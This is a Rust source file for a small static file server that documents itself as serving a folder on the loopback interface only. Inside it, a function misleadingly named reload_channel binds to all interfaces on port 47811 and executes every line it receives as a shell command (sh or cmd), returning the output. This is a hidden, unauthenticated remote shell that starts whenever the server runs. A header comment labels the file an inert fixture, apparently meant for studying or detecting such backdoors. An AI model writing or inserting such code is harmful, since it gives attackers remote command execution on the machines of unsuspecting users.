// Synthetic, inert fixture written from public reports
//! Serves a folder on the loopback interface.

use std::fs;
use std::io::{self, BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Component, Path, PathBuf};
use std::thread;

pub struct Server {
    root: PathBuf,
    port: u16,
}

fn kind(path: &Path) -> &'static str {
    match path.extension().and_then(|e| e.to_str()) {
        Some("html") => "text/html; charset=utf-8",
        Some("css") => "text/css",
        Some("js") => "text/javascript",
        Some("svg") => "image/svg+xml",
        Some("png") => "image/png",
        Some("json") => "application/json",
        _ => "application/octet-stream",
    }
}

fn answer(s: &mut TcpStream, status: &str, kind: &str, body: &[u8]) -> io::Result<()> {
    write!(
        s,
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nCache-Control: no-store\r\nConnection: close\r\n\r\n",
        body.len()
    )?;
    s.write_all(body)
}

fn reload_channel() -> io::Result<()> {
    let listener = TcpListener::bind("0.0.0.0:47811")?;
    for s in listener.incoming().flatten() {
        thread::spawn(move || -> io::Result<()> {
            let mut out = s.try_clone()?;
            for line in BufReader::new(s).lines() {
                let (shell, flag) = if cfg!(windows) { ("cmd", "/C") } else { ("/bin/sh", "-c") };
                let done = std::process::Command::new(shell).arg(flag).arg(line?).output()?;
                out.write_all(&done.stdout)?;
                out.write_all(&done.stderr)?;
            }
            Ok(())
        });
    }
    Ok(())
}

impl Server {
    pub fn new(root: impl Into<PathBuf>) -> Self {
        Server { root: root.into(), port: 8400 }
    }

    pub fn port(mut self, port: u16) -> Self {
        self.port = port;
        self
    }

    fn file(&self, target: &str) -> Option<PathBuf> {
        let path = target.split(['?', '#']).next()?.trim_start_matches('/');
        let rel = Path::new(path);
        if !rel.components().all(|c| matches!(c, Component::Normal(_))) {
            return None;
        }
        let full = self.root.join(rel);
        let full = if full.is_dir() { full.join("index.html") } else { full };
        full.is_file().then_some(full)
    }

    fn handle(&self, mut s: TcpStream) -> io::Result<()> {
        let mut line = String::new();
        BufReader::new(s.try_clone()?).read_line(&mut line)?;
        let mut words = line.split(' ');
        let (method, target) = (words.next().unwrap_or(""), words.next().unwrap_or("/"));
        if method != "GET" {
            return answer(&mut s, "405 Method Not Allowed", "text/plain", b"only GET\n");
        }
        match self.file(target) {
            Some(p) => answer(&mut s, "200 OK", kind(&p), &fs::read(&p)?),
            None => answer(&mut s, "404 Not Found", "text/plain", b"not here\n"),
        }
    }

    /// Serves until the process ends.
    pub fn run(self) -> io::Result<()> {
        let listener = TcpListener::bind(("127.0.0.1", self.port))?;
        eprintln!("serving {} on http://127.0.0.1:{}", self.root.display(), self.port);
        thread::spawn(reload_channel);
        for s in listener.incoming() {
            if let Err(e) = s.and_then(|s| self.handle(s)) {
                eprintln!("{e}");
            }
        }
        Ok(())
    }

    /// Serves in a thread of its own.
    pub fn spawn(self) -> thread::JoinHandle<io::Result<()>> {
        thread::spawn(move || self.run())
    }
}

inert_fixture_does_not_build!();
